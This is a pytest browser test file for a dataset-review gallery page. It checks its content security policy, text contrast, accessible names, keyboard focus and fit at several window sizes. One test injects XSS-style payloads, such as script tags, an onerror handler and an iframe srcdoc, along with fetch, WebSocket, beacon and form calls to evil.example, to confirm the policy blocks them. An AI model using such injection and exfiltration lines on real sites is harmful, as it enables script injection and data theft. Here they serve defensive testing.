"""The page lets nothing in or out, and can be read and used by everybody: contrast, names, focus, small windows."""

from __future__ import annotations

import base64
import hashlib
import html
import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from action_reward_models.cards.gallery.page import render
from action_reward_models.tests.cards.gallery.made import Made, candidate, message
from PIL import Image

if TYPE_CHECKING:
    from action_reward_models.tests.cards.gallery.browser import Context, Gallery

Person = Callable[..., "Context"]
pytestmark = pytest.mark.browser

# Of each text that can be seen: its contrast with what lies below it, WCAG 2; what is switched off is left out.
CONTRAST = """() => {
  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  const rgba = (colour) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data].map((value) => value / 255); };
  const over = ([r, g, b, a], below) => [r, g, b].map((value, n) => value * a + below[n] * (1 - a));
  const light = (rgb) => { const [r, g, b] = rgb.map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const path = (node) => (node === null ? [] : [...path(node.parentElement), node]);
  // What is painted of a node and all above it, with a text in it or without; a group is painted, then let through.
  const paint = ([node, ...inner], backdrop, text) => {
    const style = getComputedStyle(node), opacity = Number(style.opacity);
    let painted = over(rgba(style.backgroundColor), backdrop);
    if (inner.length) painted = paint(inner, painted, text);
    else if (text !== null) painted = over(rgba(text), painted);
    return painted.map((value, n) => value * opacity + backdrop[n] * (1 - opacity));
  };
  const found = [];
  const skipped = ":disabled, .marker, script, noscript, option, #toast";
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const measure = (node, colour, text) => {
    const box = node.getBoundingClientRect();
    if (!node.checkVisibility({ visibilityProperty: true }) || !box.width || !box.height) return;
    if (node.closest(skipped)) return;
    const canvas = rgba("Canvas").slice(0, 3);
    const [high, low] = [colour, null].map((text) => light(paint(path(node), canvas, text))).sort((x, y) => y - x);
    found.push([(high + 0.05) / (low + 0.05), text.trim().slice(0, 40), node.className || node.id || node.tagName]);
  };
  while (walker.nextNode()) {
    const text = walker.currentNode.textContent, node = walker.currentNode.parentElement;
    if (text.trim()) measure(node, getComputedStyle(node).color, text);
  }
  for (const input of document.querySelectorAll("input[placeholder]")) {
    measure(input, getComputedStyle(input, "::placeholder").color, input.placeholder);
  }
  return found;
}"""


@pytest.fixture
def rich() -> Made:
    """Items on which everything that the page can say is said, with eight candidates on the first."""
    made = Made()
    for number in range(30):
        picture = made.picture(Image.new("RGB", (1280, 720), (number * 8, 200, 255 - number * 8)))
        elements = [{"index": 0, "tag": "a", "text": "link", "box": [10, 10, 90, 30]}]
        past = [
            {"turn": n, "thought": f"Thought {n}.", "action": f"click({n}, {n})", "observation": "A page."}
            for n in range(3)
        ]
        state = made.state(
            f"s{number}", None if number == 4 else picture, elements=elements, history=past, episode_outcome="success",
            observation_text="Text of the page.",
        )  # fmt: skip
        actions = [candidate(n, f"click({n}, {n})", (60 * n + 50, 40 * n + 50), thought="Because.") for n in range(8)]
        actions[1] |= {"parse_error": "no action found", "action": ""}
        actions[2] |= {"same_as": 0}
        actions[3] |= {"element_index": 3, "finish_reason": "length"}
        set_ = made.draw(state, *actions)
        label = made.label(set_, None if number == 5 else 0, tie_indices=[2], order=[3, 1, 0, 2, 4, 5, 6, 7])
        said = {
            "verdict": "relabel",
            "selected_index": 4,
            "note": "no",
            "reviewer": "b",
            "time": "2026-01-01T00:00:00Z",
        }
        table = "selection_sft" if number % 3 == 0 else "bt_pairs"
        out = {"reason": "done_vs_done", "detail": "two answers", "status": "quarantined"} if number % 3 == 2 else None
        made.item(
            f"row {number}", table, state, set_, label, rejected_index=1 if table == "bt_pairs" else None,
            earlier=[said] if number % 2 else [], excluded=out, facts=[["margin", "0.25"]], images=[picture],
            prompt=[message("system", "You choose."), message("user", "Which?", 1)], prompt_id="selection/1",
            replies=[["completion", [message("assistant", "1")]]], prompt_sha256="cd" * 32, rendered_sha256="ef" * 32,
            split="validation" if number % 4 == 0 else "train",
            facets={"pair_type": "click" if table == "bt_pairs" else None, "host": f"h{number % 3}.example"},
        )  # fmt: skip
    made.data["strata"] = [{"table": "bt_pairs", "split": "train", "kind": "click", "shown": 20, "of": 200}]
    made.data["left_out"] = {"over the size budget": 3}
    return made


def opened(person: Person, made: Made, **options: Any) -> Gallery:
    page = person(**options).open(made.data, made.pictures)
    page.painted()
    return page


# -- what the policy forbids -----------------------------------------------------------------------------------------


def test_the_policy_names_the_hashes_of_its_own_parts_and_nothing_else(rich: Made) -> None:
    page = render(rich.data, rich.pictures).decode()
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)

    def digest(text: str) -> str:
        return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"

    said = dict(part.strip().split(" ", 1) for part in html.unescape(policy).split(";"))
    assert said == {
        "default-src": "'none'", "script-src": digest(script), "style-src": digest(style), "img-src": "blob:",
        "base-uri": "'none'", "form-action": "'none'",
    }  # fmt: skip
    assert page.index("Content-Security-Policy") < min(page.index("<style"), page.index("<script"))
    outside = re.sub(r'<script type="[^"]*" id="[^"]*">.*?</script>', "", page, flags=re.DOTALL)
    assert not re.findall(r"(?i:https?:|//[a-z]|\bsrc=|\bhref=|@import|(?<!Object)url\()", outside.replace(" // ", " "))


def test_what_is_put_into_the_page_does_not_run(rich: Made, person: Person) -> None:
    page = opened(person, rich)
    failed: list[tuple[str, str | None]] = []
    page.page.on("requestfailed", lambda request: failed.append((request.url[:20], request.failure)))
    refused = page.page.evaluate("""async () => {
      const violations = [];
      addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
      add("script", { textContent: "window.owned = 1" });
      add("script", { src: "https://evil.example/x.js" });
      add("style", { textContent: "body { display: none }" });
      add("img", { src: "https://evil.example/x.png" });
      add("img", { src: "data:image/png;base64,iVBORw0KGgo=" });
      add("iframe", { src: "https://evil.example/" });
      add("iframe", { srcdoc: "<script>parent.owned = 1</script>" });
      add("object", { data: "https://evil.example/" });
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.owned = 1'>");
      document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='window.owned = 1'>");
      document.body.lastChild.click();
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
      document.body.append(form);
      form.submit();
      const failed = [];
      for (const [name, act] of [["fetch", () => fetch("https://evil.example/")], ["file", () => fetch(location.href)],
        ["socket", () => new WebSocket("wss://evil.example/").url && Promise.reject(new Error("made"))],
        ["worker", () => new Promise((_, no) => { new Worker(URL.createObjectURL(new Blob(["1"]))).onerror = no; })]]) {
        try { await act(); } catch { failed.push(name); }
      }
      navigator.sendBeacon("https://evil.example/");
      for (let waited = 0; waited < 50 && !violations.includes("form-action"); waited++)  // of a form it comes later
        await new Promise((done) => setTimeout(done, 100));
      return { owned: window.owned ?? null, violations: [...new Set(violations)].sort(), failed,
        hidden: getComputedStyle(document.body).display === "none" };
    }""")
    assert refused["owned"] is None
    assert refused["hidden"] is False
    assert refused["failed"] == ["fetch", "file", "socket", "worker"]
    assert {*refused["violations"]} >= {
        "script-src-elem", "style-src-elem", "style-src-attr", "script-src-attr", "img-src", "frame-src", "object-src",
        "connect-src", "worker-src", "form-action",
    }  # fmt: skip
    asked = [one for one in page.context.problems if one.startswith("request:")]
    assert [why for _, why in failed] == ["csp"] * len(asked)  # stopped before they were sent
    assert any("Content Security Policy" in one for one in page.context.problems)
    page.context.problems.clear()


def test_without_scripts_the_page_says_so(rich: Made, person: Person) -> None:
    page = person(java_script_enabled=False).open(rich.data, rich.pictures)
    assert "script" in page.page.locator("noscript").inner_text()


# -- what can be read ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_stands_out(rich: Made, person: Person, scheme: str) -> None:
    page = opened(person, rich, color_scheme=scheme)
    page.press("y", "k")
    seen = 0
    for number in range(6):
        if number == 2:
            page.press("3", "k")
        for details in page.page.locator("details").all():
            details.evaluate("(node) => { node.open = true; }")
        measured = page.page.evaluate(CONTRAST)
        seen += len(measured)
        assert [one for one in measured if one[0] < 4.5] == []
        page.press("j")
    assert seen > 600
    page.press("?")
    assert [one for one in page.page.evaluate(CONTRAST) if one[0] < 4.5] == []
    page.press("Escape")
    page.search("nothing of the kind")
    assert [one for one in page.page.evaluate(CONTRAST) if one[0] < 4.5] == []


def test_light_and_dark_follow_the_system_and_the_button(rich: Made, person: Person) -> None:
    page = opened(person, rich, color_scheme="light")

    def back() -> float:
        red, green, blue = re.findall(r"[\d.]+", page.page.evaluate("getComputedStyle(document.body).backgroundColor"))[
            :3
        ]
        return float(red) + float(green) + float(blue)

    assert back() > 600
    page.page.emulate_media(color_scheme="dark")
    assert back() < 150
    page.press("t")
    assert back() > 600
    page.page.locator("#theme").click()
    assert back() < 150
    page.page.locator("#theme").click()
    page.page.emulate_media(color_scheme="light")
    assert back() > 600


def test_numbers_on_markers_stand_out(rich: Made, person: Person) -> None:
    page = opened(person, rich)
    ratios = page.page.evaluate(CONTRAST.replace(":disabled, .marker", ":disabled"))
    tags = [one for one in ratios if one[2] in ("", "SPAN") or "number" in one[2]]
    assert len(tags) >= 16
    assert [one for one in tags if one[0] < 4.5] == []


# -- who can use it --------------------------------------------------------------------------------------------------


def test_all_that_can_be_pressed_has_a_name(rich: Made, person: Person) -> None:
    page = opened(person, rich)
    told = page.page.locator("body").aria_snapshot()
    controls = re.findall(r"- (button|textbox|searchbox|combobox|progressbar)\b(.*)", told)
    assert len(controls) > 40
    assert [line for line in controls if not re.match(r' "[^"]+"', line[1])] == []
    page.press("?")
    assert re.search(r'dialog "[^"]+"', page.page.locator("body").aria_snapshot())
    page.page.locator("#help button").click()
    assert page.page.locator("#help").is_hidden()


def test_focus_can_be_seen_and_goes_everywhere(rich: Made, person: Person) -> None:
    page = opened(person, rich)
    page.page.evaluate("document.querySelector('#list').style.display = 'none'")  # thirty stops of one kind
    met = []
    for _ in range(80):
        page.press("Tab")
        met.append(
            page.page.evaluate("""() => { const node = document.activeElement, style = getComputedStyle(node);
          const name = node.id || node.dataset.verdict || node.dataset.pick || node.tagName;
          return [name, style.outlineStyle, parseFloat(style.outlineWidth)]; }""")
        )
        if met[-1][0] == "BODY":
            break
    names = [name for name, *_ in met if name != "BODY"]
    assert {"search", "load", "export", "theme", "help-open", "filter-table", "filter-judged", "window", "fit", "full",
            "marks", "boxes", "keep", "drop", "relabel", "1", "8", "note"} <= set(names)  # fmt: skip
    assert [one for one in met if one[0] != "BODY" and not (one[1] != "none" and one[2] >= 1)] == []


@pytest.mark.parametrize("size", [(1280, 720), (1920, 1080), (1440, 900), (900, 500), (390, 844), (320, 568)])
def test_it_fits_the_window(rich: Made, person: Person, size: tuple[int, int]) -> None:
    width, height = size
    page = opened(person, rich, viewport={"width": width, "height": height})
    for _ in range(6):
        wide, right = page.page.evaluate("""() => [document.documentElement.scrollWidth,
          Math.max(...[...document.querySelectorAll("header > *, #filters > *, #judge > *, .tools > *, #task")]
            .filter((node) => node.checkVisibility()).map((node) => node.getBoundingClientRect().right))]""")
        assert wide <= width
        assert right <= width
        bar = page.page.locator("#judge").bounding_box()
        assert bar is not None
        assert bar["y"] >= 0
        assert bar["y"] + bar["height"] <= height  # in sight without scrolling
        keep = page.page.locator("#judge [data-verdict=keep]").bounding_box()
        assert keep is not None
        assert keep["height"] >= 20
        page.press("j")
    page.page.locator("#judge [data-verdict=drop]").click()
    page.page.locator("#judge [data-pick='8']").click()
    assert len(page.notes) == 2
    if width >= 1280:
        assert page.page.evaluate("document.documentElement.scrollHeight") == height
        window = page.page.locator("#window").bounding_box()
        assert window is not None
        assert window["width"] * window["height"] > 0.2 * width * height  # the screenshot has the largest part
    else:
        page.page.locator("#window").scroll_into_view_if_needed()
        window = page.page.locator("#window").bounding_box()
        assert window is not None
        assert window["height"] >= 200
    page.page.locator("#candidates .candidate").last.scroll_into_view_if_needed()
    last, bar = (
        page.page.locator("#candidates .candidate").last.bounding_box(),
        page.page.locator("#judge").bounding_box(),
    )
    assert last is not None
    assert bar is not None
    assert last["y"] < bar["y"]
